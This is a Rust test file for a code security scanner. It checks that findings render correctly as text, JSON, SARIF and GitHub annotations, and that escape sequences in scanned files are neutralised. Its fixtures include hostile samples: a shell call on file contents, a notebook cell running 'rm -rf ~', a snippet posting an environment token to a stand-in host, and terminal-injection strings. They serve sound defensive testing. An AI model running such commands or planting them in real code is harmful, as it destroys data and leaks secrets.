//! What reports look like in each form, and that untrusted code cannot act through them.

use std::collections::BTreeSet;

use saferun_scanner::extract::{FileReport, SourceKind, crashed, scan_bytes};
use saferun_scanner::report::{NothingScanned, TextOptions, github, json, sarif, summary, text};
use saferun_scanner::{Evidence, Finding, Level, Options, Position, Range, Report, Suppressed};

fn range(line: u32, from: u32, to: u32) -> Range {
    Range {
        start: Position { line, column: from },
        end: Position { line, column: to },
    }
}

fn finding(level: Level, message: &str, at: Range) -> Finding {
    Finding {
        rule: "SR101".into(),
        name: "shell-command".into(),
        level,
        message: message.into(),
        range: at,
        bytes: (0, 1),
        cwe: Some(78),
        subject: String::new(),
        evidence: Vec::new(),
        cell: None,
    }
}

fn file(name: &str, source: &str, findings: Vec<Finding>) -> FileReport {
    FileReport {
        name: name.into(),
        kind: SourceKind::Python,
        encoding: "utf-8".into(),
        notes: Vec::new(),
        report: Report {
            findings,
            ..Report::default()
        },
        texts: vec![source.into()],
        blocks: 1,
    }
}

const SOURCE: &str = "import os\nkey = open('k').read()\nif key:\n\tos.system('é' + key)\n";

fn example() -> FileReport {
    let mut flow = finding(Level::High, "runs `key` in a shell", range(4, 2, 22));
    flow.evidence = vec![
        Evidence {
            message: "the file is read".into(),
            range: range(2, 7, 23),
        },
        Evidence {
            message: "and reaches the shell".into(),
            range: range(4, 12, 21),
        },
    ];
    let mut example = file("src/a b.py", SOURCE, vec![flow]);
    let silenced = finding(Level::Medium, "starts a program", range(1, 1, 10));
    example.report.suppressed.push(Suppressed {
        finding: silenced,
        reason: "build step".into(),
    });
    example
}

#[test]
fn text_has_carets_and_steps() {
    let shown = text(&[example()], TextOptions::default()).unwrap();
    let expected = "\
HIGH SR101 shell-command: runs `key` in a shell
 --> src/a b.py:4:2
  |
4 |     os.system('é' + key)
  |     ^^^^^^^^^^^^^^^^^^^^
  = step 1, src/a b.py:2:7: the file is read
      key = open('k').read()
  = step 2, src/a b.py:4:12: and reaches the shell
      os.system('é' + key)

suppressed SR101 shell-command at src/a b.py:1:1: build step

1 file: 1 HIGH; risk HIGH; 1 suppressed
";
    assert_eq!(shown, expected);
    let coloured = text(
        &[example()],
        TextOptions {
            color: true,
            ..TextOptions::default()
        },
    )
    .unwrap();
    assert!(coloured.contains("\u{1b}[31mHIGH\u{1b}[0m"));
}

#[test]
fn control_characters_do_not_reach_the_terminal() {
    let evil = "x = '\u{1b}]0;owned\u{7}\u{202e}\u{200b}\u{9b}31m'\n";
    let found = finding(
        Level::Low,
        "bad \u{1b}[2J \u{202e} name\nnext",
        range(1, 1, 4),
    );
    let mut reported = file("a\u{1b}[1m.py", evil, vec![found]);
    reported.notes.push("note \u{7}".into());
    let files = [reported];
    let shown = text(&files, TextOptions::default()).unwrap();
    assert!(
        !shown.chars().any(|c| c.is_control() && c != '\n'),
        "{shown:?}"
    );
    assert!(!shown.contains(['\u{202e}', '\u{200b}']));
    let annotations = github(&files).unwrap();
    assert!(
        !annotations.chars().any(|c| c.is_control() && c != '\n'),
        "{annotations:?}"
    );
    assert_eq!(annotations.lines().count(), 1);
}

#[test]
fn long_lines_are_cut_around_the_mark() {
    let source = format!("{}evil(){}", "x; ".repeat(2000), "; y".repeat(2000));
    let shown = text(
        &[file(
            "a.py",
            &source,
            vec![finding(Level::High, "m", range(1, 6001, 6007))],
        )],
        TextOptions::default(),
    )
    .unwrap();
    let lines: Vec<&str> = shown.lines().collect();
    assert!(
        lines.iter().all(|line| line.chars().count() < 140),
        "{shown}"
    );
    let at = lines[4].find('^').unwrap();
    let code: String = lines[3]
        .chars()
        .skip(lines[4][..at].chars().count())
        .take(6)
        .collect();
    assert_eq!(code, "evil()");
}

#[test]
fn places_outside_of_the_text_do_not_panic() {
    for place in [
        range(99, 1, 2),
        range(1, 999, 1000),
        range(0, 0, 0),
        range(5, 1, 1),
    ] {
        let files = [file("a.py", SOURCE, vec![finding(Level::Low, "m", place)])];
        text(&files, TextOptions::default()).unwrap();
        sarif(&files).unwrap();
        github(&files).unwrap();
    }
}

#[test]
fn json_has_the_published_shape() {
    let value: serde_json::Value = serde_json::from_str(&json(&[example()]).unwrap()).unwrap();
    let first = &value["files"][0];
    assert_eq!(first["path"], "src/a b.py");
    assert_eq!(first["risk"], "HIGH");
    let found = &first["findings"][0];
    assert_eq!(found["rule"], "SR101");
    assert_eq!(found["level"], "HIGH");
    assert_eq!(
        found["range"]["start"],
        serde_json::json!({"line": 4, "column": 2})
    );
    assert_eq!(
        found["range"]["end"],
        serde_json::json!({"line": 4, "column": 22})
    );
    assert_eq!(found["cwe"], 78);
    assert_eq!(found["evidence"].as_array().unwrap().len(), 2);
    assert_eq!(first["suppressed"][0]["reason"], "build step");
    assert_eq!(value["summary"]["files"], 1);
    assert_eq!(value["summary"]["risk"], "HIGH");
    assert_eq!(value["summary"]["findings"]["HIGH"], 1);
    assert_eq!(value["summary"]["files_by_risk"]["HIGH"], 1);
    assert_eq!(value["summary"]["suppressed"], 1);
}

/// Files of every kind that a report has to tell of, with findings of every level.
fn all_kinds() -> Vec<FileReport> {
    let cell = "{\"nbformat\":4,\"cells\":[{\"cell_type\":\"code\",\"source\":\"!rm -rf ~\"}]}";
    let mut stopped = file(
        "C:\\x\\é.py",
        SOURCE,
        vec![finding(Level::Blocked, "m", range(0, 0, 0))],
    );
    stopped.report.incomplete = true;
    vec![
        example(),
        scan_bytes("n.ipynb", cell.as_bytes(), &Options::default()),
        stopped,
        file(
            "/a/low.py",
            SOURCE,
            vec![finding(Level::Low, "", range(1, 1, 2))],
        ),
        crashed("c.py", "index out of bounds"),
        file("", "", Vec::new()),
    ]
}

fn sarif_log(files: &[FileReport]) -> serde_json::Value {
    let text = sarif(files).unwrap_or_else(|error| panic!("{error}"));
    serde_json::from_str(&text).unwrap_or_else(|error| panic!("{error} in {text}"))
}

fn list(value: &serde_json::Value) -> &[serde_json::Value] {
    value
        .as_array()
        .unwrap_or_else(|| panic!("a list, not {value}"))
}

#[test]
fn sarif_is_valid_by_the_published_schema() {
    let schema: serde_json::Value =
        serde_json::from_str(include_str!("report/sarif-2.1.0-rtm.5.json")).unwrap();
    let validator = jsonschema::options()
        .should_validate_formats(true)
        .build(&schema)
        .unwrap();
    let log = sarif_log(&all_kinds());
    let errors: Vec<String> = validator
        .iter_errors(&log)
        .map(|error| format!("{} at {}", error, error.instance_path))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    let mut broken = log.clone();
    broken["runs"][0]["results"][0]["level"] = "BLOCKED".into();
    assert!(!validator.is_valid(&broken), "the schema looks at nothing");
}

#[test]
fn sarif_results_carry_the_level_that_its_own_levels_lack() {
    let log = sarif_log(&all_kinds());
    let results = list(&log["runs"][0]["results"]);
    let mut met = BTreeSet::new();
    for result in results {
        let risk = result["properties"]["riskLevel"].as_str().unwrap();
        let (level, severity) = match risk {
            "LOW" => ("note", "2.0"),
            "MEDIUM" => ("warning", "5.0"),
            "HIGH" => ("error", "8.0"),
            "BLOCKED" => ("error", "9.5"),
            other => panic!("{other} is no level"),
        };
        assert_eq!(result["level"], level);
        assert_eq!(result["properties"]["security-severity"], severity);
        met.insert(risk);
    }
    assert_eq!(met.len(), 4, "{met:?}");
    let silenced: Vec<_> = results
        .iter()
        .filter(|result| !result["suppressions"].is_null())
        .collect();
    assert_eq!(silenced.len(), 1);
    assert_eq!(
        silenced[0]["suppressions"],
        serde_json::json!([{"kind": "inSource", "justification": "build step"}])
    );
    let told = list(&log["runs"][0]["invocations"][0]["toolExecutionNotifications"]);
    assert_eq!(told.len(), 2, "one that stopped, one that crashed");
}

#[test]
fn sarif_rules_have_the_severity_of_their_worst_result() {
    // Code hosts sort by the rule's score, whatever its results say.
    let log = sarif_log(&all_kinds());
    let rules = list(&log["runs"][0]["tool"]["driver"]["rules"]);
    for result in list(&log["runs"][0]["results"]) {
        let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
        assert_eq!(rules[index]["id"], result["ruleId"]);
        let score = |value: &serde_json::Value| -> f64 {
            let text = value["properties"]["security-severity"].as_str();
            text.unwrap().parse().unwrap()
        };
        assert!(score(&rules[index]) >= score(result), "{result:#}");
    }
    let shell = rules.iter().find(|rule| rule["id"] == "SR101").unwrap();
    assert_eq!(shell["properties"]["security-severity"], "9.5");
    assert_eq!(
        shell["properties"]["tags"],
        serde_json::json!(["security", "external/cwe/cwe-078"])
    );
}

#[test]
fn sarif_tells_a_flow_step_by_step() {
    let log = sarif_log(&[example()]);
    let result = &log["runs"][0]["results"][0];
    let flows = list(&result["codeFlows"]);
    assert_eq!(flows.len(), 1);
    let steps: Vec<_> = list(&flows[0]["threadFlows"][0]["locations"])
        .iter()
        .map(|step| {
            let place = &step["location"]["physicalLocation"];
            assert_eq!(place["artifactLocation"]["uri"], "src/a%20b.py");
            (
                step["location"]["message"]["text"].as_str().unwrap(),
                place["region"]["startLine"].as_u64().unwrap(),
                place["region"]["startColumn"].as_u64().unwrap(),
                place["region"]["endColumn"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        steps,
        [
            ("the file is read", 2, 7, 23),
            ("and reaches the shell", 4, 12, 21)
        ]
    );
    // A real flow, from the scanner itself.
    let code = "import os, requests\nkey = os.environ['TOKEN']\nrequests.post('https://x.test', data=key)\n";
    let log = sarif_log(&[scan_bytes("a.py", code.as_bytes(), &Options::default())]);
    let flowing = list(&log["runs"][0]["results"])
        .iter()
        .find(|result| !result["codeFlows"].is_null())
        .expect("a secret that is sent is a flow");
    let steps = list(&flowing["codeFlows"][0]["threadFlows"][0]["locations"]);
    assert!(steps.len() >= 2, "{steps:#?}");
    let first = &steps[0]["location"]["physicalLocation"]["region"];
    assert_eq!(first["startLine"], 2, "{steps:#?}");
}

#[test]
fn github_escapes_properties_and_messages() {
    let found = finding(Level::Blocked, "50% of\r\n::error::x", range(2, 3, 9));
    let lines = github(&[file("a,b:c.py", SOURCE, vec![found])]).unwrap();
    assert_eq!(
        lines,
        "::error file=a%2Cb%3Ac.py,line=2,endLine=2,col=3,endColumn=9,title=BLOCKED SR101 shell-command::50%25 of%0D%0A::error::x\n"
    );
}

#[test]
fn nothing_scanned_is_an_error() {
    assert_eq!(summary(&[]), Err(NothingScanned));
    let prose = scan_bytes("a.md", b"# no code\n", &Options::default());
    assert_eq!(summary(std::slice::from_ref(&prose)), Err(NothingScanned));
    assert!(text(std::slice::from_ref(&prose), TextOptions::default()).is_err());
    assert!(json(std::slice::from_ref(&prose)).is_err());
    assert!(sarif(std::slice::from_ref(&prose)).is_err());
    assert!(github(&[prose]).is_err());
    assert!(summary(&[file("a.py", "", Vec::new())]).is_ok());
}
